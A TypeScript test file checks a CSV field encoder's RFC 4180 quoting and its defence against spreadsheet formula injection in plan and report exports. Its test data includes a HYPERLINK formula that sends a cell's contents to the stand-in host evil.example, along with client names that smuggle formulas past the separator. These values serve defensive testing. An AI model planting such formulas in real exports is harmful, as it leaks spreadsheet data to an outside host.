import { describe, expect, it } from 'vitest';
import { csvField } from '../../src/domain/csv-field.ts';
import { client, writeConfig } from '../helpers/config-folder.ts';
import { workflowCompany } from '../helpers/workflow-company.ts';
import { cli } from '../helpers/run-cli.ts';
import { tempDatabaseLocation } from '../helpers/test-backend.ts';

describe('a CSV field', () => {
  it('is quoted when it holds the separator, a quote or a line break (RFC 4180)', () => {
    expect(csvField('Stroymash')).toBe('Stroymash');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('a;b', ';')).toBe('"a;b"');
    expect(csvField('a,b', ';')).toBe('a,b');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
  });
  it('that a spreadsheet would run as a formula is made text by an apostrophe; numbers stay numbers', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Banat")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Banat"")"');
    expect(csvField('+7 495 123-45-67')).toBe("'+7 495 123-45-67");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('-5')).toBe('-5');
    expect(csvField('-0,5', ';')).toBe('-0,5');
    expect(csvField('12.5')).toBe('12.5');
    expect(csvField('a=b')).toBe('a=b');
  });
  it('with a formula after another separator than the file\'s is quoted: Excel splits at its own locale\'s (security review 2026-12-06)', () => {
    const name = 'Samara Avto Parts,=HYPERLINK(CHAR(104)&A1),';
    expect(csvField(name, ';')).toBe(`"${name}"`);
    expect(csvField('Banat SRL; @SUM(A1)', ',')).toBe('"Banat SRL; @SUM(A1)"');
    expect(csvField('Banat\t-2+3', ',')).toBe('"Banat\t-2+3"');
    // Commas of a decimal or a list are no formula: left as they were.
    expect(csvField('-0,5', ';')).toBe('-0,5');
    expect(csvField('Ivanov, Petrov', ';')).toBe('Ivanov, Petrov');
  });
  it('from a CRM export, a client named like a formula reaches plan and report CSV as text', async () => {
    const evil = '=HYPERLINK("http://evil.example/","Banat")';
    const company = workflowCompany();
    const clients = (company.clients as ReturnType<typeof client>[]).map((c, i) => (i === 0 ? { ...c, name: evil } : c));
    const dir = writeConfig({ 'touchbase.yaml': { ...company, clients } });
    const db = await tempDatabaseLocation();
    const now = '2027-03-01T09:00:00+03:00';
    const plan = await cli('plan', '--config', dir, '--db', db, '--from', '2027-03-01', '--to', '2027-03-31', '--format', 'csv', '--now', now);
    expect(plan.code).toBe(0);
    expect(plan.out).toContain(`"'=HYPERLINK(""http://evil.example/"",""Banat"")"`);
    expect(plan.out).not.toMatch(/(^|,)=HYPERLINK/m);
    const report = await cli('report', 'silence', '--config', dir, '--db', db, '--format', 'csv', '--now', '2027-09-01T09:00:00+03:00');
    expect(report.code).toBe(0);
    expect(report.out).toContain("'=HYPERLINK");
    expect(report.out).not.toMatch(/(^|[,;])"?=HYPERLINK/m);
  });
});
